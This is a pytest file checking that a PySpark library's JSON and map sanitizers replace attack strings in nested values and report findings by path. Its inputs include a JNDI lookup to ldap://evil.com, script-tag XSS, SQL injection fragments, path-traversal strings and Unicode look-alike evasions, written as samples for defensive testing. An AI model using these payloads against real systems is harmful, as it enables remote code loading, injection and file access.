"""Nested payloads: rules reach every string value, structure and keys stay."""

import json
import random

import pytest
from pyspark.sql import functions as F

from vigilframe.functions import text
from vigilframe.operators import nested


def cleaned(spark, value):
    return spark.createDataFrame([(value,)], "v string").select(text.sanitize_json(F.col("v"))).first()[0]


@pytest.mark.parametrize(
    "doc, wanted",
    [
        ({"outer": {"inner": "${jndi:ldap://evil.com}", "safe": "hello"}}, {"outer": {"inner": "[SANITIZED:JNDI]", "safe": "hello"}}),
        ({"cmds": ["normal", "<script>evil()</script>"]}, {"cmds": ["normal", "[SANITIZED:XSS]"]}),
        ({"a": {"b": {"c": [[{"d": "../x"}]]}}}, {"a": {"b": {"c": [[{"d": "[SANITIZED:PATH_TRAVERSAL]x"}]]}}}),
        ({"port": 443, "score": 0.95, "flag": True, "nil": None, "e": "", "o": {}, "l": []}, None),
        ({"../k": "v", 'q"k': 'say "../" \\ \n\u00e9'}, {"../k": "v", 'q"k': 'say "[SANITIZED:PATH_TRAVERSAL]" \\ \n\u00e9'}),
        (["a", "../"], ["a", "[SANITIZED:PATH_TRAVERSAL]"]),
        ("../", "[SANITIZED:PATH_TRAVERSAL]"),
        ({"a": "<script>", "b": "</script>"}, None),
    ],
)
def test_string_values_are_cleaned_in_place(spark, doc, wanted):
    for raw in (json.dumps(doc), json.dumps(doc, indent=2, ensure_ascii=False)):
        got = cleaned(spark, raw)
        assert json.loads(got) == (doc if wanted is None else wanted)
        assert wanted is not None or got == raw


def test_escapes_hide_nothing_and_other_texts_are_cleaned_whole(spark):
    assert json.loads(cleaned(spark, '{"a": "\\u003cscript\\u003ex\\u003c/script\\u003e"}')) == {"a": "[SANITIZED:XSS]"}
    assert cleaned(spark, '{"a": "../') == '{"a": "[SANITIZED:PATH_TRAVERSAL]'
    assert cleaned(spark, None) is None and cleaned(spark, "") == ""


def test_very_long_strings(spark):
    doc = {"a": 'x"\\' * 300_000 + "../", "b": ["y" * 500_000]}
    got = json.loads(cleaned(spark, json.dumps(doc)))
    assert got == {"a": doc["a"][:-3] + "[SANITIZED:PATH_TRAVERSAL]", "b": doc["b"]}
    flat = spark.createDataFrame([(json.dumps(doc),)], "v string").select(text.flatten_json_values(F.col("v"))).first()[0]
    assert flat == doc["a"] + " " + doc["b"][0]


def test_maps_keep_the_structure_of_nested_values(spark):
    df = spark.createDataFrame([({"n": '{"a": {"b": "../x"}, "n": 1}', "t": "[../", "z": None},)], "m map<string,string>")
    got = df.select(text.sanitize_map(F.col("m"))).first()[0]
    assert json.loads(got["n"]) == {"a": {"b": "[SANITIZED:PATH_TRAVERSAL]x"}, "n": 1}
    assert got["t"] == "[[SANITIZED:PATH_TRAVERSAL]" and got["z"] is None


def test_leaves_and_findings_by_path(spark):
    docs = [
        (1, json.dumps({"a": {"b": ["x", {"c d": "../ ../"}]}, "n": 1.5, "t": True, "z": None, "o": {}, "path": "${jndi:x}", "key": "k"})),
        (2, '"../"'), (3, "no json"), (4, None), (5, "[]"), (6, '{"a": "clean"}'),
    ]
    df = spark.createDataFrame(docs, "key long, doc string")
    got = {(r["key"], r["path"]): (r["value"], r["is_text"]) for r in nested.leaves(df, "key", "doc").collect()}
    assert got == {
        (1, "$.a.b[0]"): ("x", True), (1, '$.a.b[1]["c d"]'): ("../ ../", True), (1, "$.n"): ("1.5", False), (1, "$.t"): ("true", False), (1, "$.z"): (None, False),
        (1, "$.path"): ("${jndi:x}", True), (1, "$.key"): ("k", True), (2, "$"): ("../", True), (6, "$.a"): ("clean", True),
    }
    found = {tuple(r) for r in nested.sanitizer_findings(df, "key", "doc").collect()}
    assert found == {(1, '$.a.b[1]["c d"]', "PATH_TRAVERSAL", 2), (1, "$.path", "JNDI_INJECTION", 1), (2, "$", "PATH_TRAVERSAL", 1)}
    assert nested.leaves(df.limit(0), "key", "doc").count() == 0


def test_findings_are_those_of_all_rules_and_no_filter_runs_them_again(spark):
    parts = ["${jndı:x}", "${jndi:", "<ſcript>", "</SCRİPT>", "</script>", " onload='x'", "on", "=", "' or '1'='1'", "--", "; drop table", "unİon all ſelect", "UNION SELECT",
             "unıon select", "../", "..\\", "%2E%2e/", "\u200b", "{{", "}}", "{%", "%}", "\n", " ", "a"]
    rng = random.Random(4)
    texts = parts + ["".join(rng.choice(parts) for _ in range(rng.randrange(1, 9))) for _ in range(1000)]
    df = spark.createDataFrame([(i, json.dumps({"a": [x]})) for i, x in enumerate(texts)] + [(-1, None), (-2, "{{no json}}")], "id long, d string")
    found = nested.sanitizer_findings(df, "id", "d")
    got = {(r["id"], r["path"], r["rule"], r["occurrences"]) for r in found.collect()}
    plain = spark.createDataFrame(list(enumerate(texts)), "id long, v string").select("id", F.explode(text.sanitize_with_counts(F.col("v"))["events"]).alias("e"))
    assert got == {(r["id"], "$.a[0]", r["e"]["rule"], r["e"]["occurrences"]) for r in plain.collect()} and len(got) > 500
    plan = found._jdf.queryExecution().optimizedPlan().toString()
    assert all(line.count("DROP") < 3 for line in plan.splitlines() if "Filter" in line)
